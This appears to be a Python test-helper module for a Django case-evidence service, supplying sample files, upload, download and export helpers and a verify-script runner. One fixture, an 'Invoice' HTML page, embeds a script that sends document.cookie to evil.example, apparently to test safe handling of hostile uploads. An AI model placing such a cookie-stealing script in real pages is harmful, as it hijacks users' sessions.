"""Files of every kind, uploads through the API, the vault's raw files and the export bundle."""

import io
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.conftest import client_for

CHUNK = 64 * 1024  # cases.evidence.crypto.CHUNK, repeated so that a change of it is noticed


# --- sample files -------------------------------------------------------------------------------
def pdf(body: bytes = b"") -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def png() -> bytes:
    """A real 1x1 RGB PNG (signature, IHDR, IDAT, IEND with their CRCs)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    """The start of a JFIF JPEG (SOI, APP0 "JFIF", a quantisation table) and its end marker."""
    return bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + b"\x08" * 64 + b"\xff\xd9"


def docx(text: str = "Receipt of order ORD-1001") -> bytes:
    """A minimal but complete WordprocessingML package: content types, package relationships, body."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="word/document.xml" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
            "</Relationships>",
        )
        z.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
        )
    return buf.getvalue()


HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head>"
    b"<body><h1>Invoice</h1><script>document.location='https://evil.example/?'+document.cookie</script></body></html>\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00"
    + b"\x00" * 64
    + b"PE\x00\x00\x4c\x01\x03\x00"
    + b"\x00" * 200
)


# --- the API ------------------------------------------------------------------------------------
def upload(user, case, name: str, data: bytes, description: str = ""):
    """POST one file to the case's evidence as ``user``; the response."""
    return client_for(user).post(
        f"/api/v1/cases/{case.pk}/evidence/",
        {"file": SimpleUploadedFile(name, data), "description": description},
        format="multipart",
    )


def uploaded(user, case, name: str, data: bytes, description: str = "") -> dict:
    response = upload(user, case, name, data, description)
    assert response.status_code == 201, response.content
    return response.json()


def download(user, case, evidence_id):
    return client_for(user).get(f"/api/v1/cases/{case.pk}/evidence/{evidence_id}/download/")


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def error_code(response) -> str:
    return response.json()["error"]["code"]


# --- the vault ----------------------------------------------------------------------------------
def vault() -> Path:
    return Path(settings.ODR_EVIDENCE_DIR)


def vault_files() -> list[Path]:
    root = vault()
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def stored_path(evidence) -> Path:
    from cases.evidence.services import path_of

    return path_of(evidence.storage_name)


# --- the export ---------------------------------------------------------------------------------
def export(user, case) -> bytes:
    response = client_for(user).get(f"/api/v1/cases/{case.pk}/export/")
    assert response.status_code == 200, response.content if not response.streaming else response
    assert response["Content-Type"] == "application/zip"
    return body_of(response)


def run_verify(*args, cwd) -> subprocess.CompletedProcess:
    """Run a bundle's verify.py (``args[0]`` its path) with this Python, as a person would offline."""
    return subprocess.run(  # noqa: S603 (our own checker)
        [sys.executable, *map(str, args)], cwd=cwd, capture_output=True, text=True, timeout=60, check=False
    )


#: A text file of several chunks, every line distinct.
LARGE_TEXT = b"".join(f"Statement of account, line {i:07d}: 89.90 EUR\n".encode() for i in range(6000))
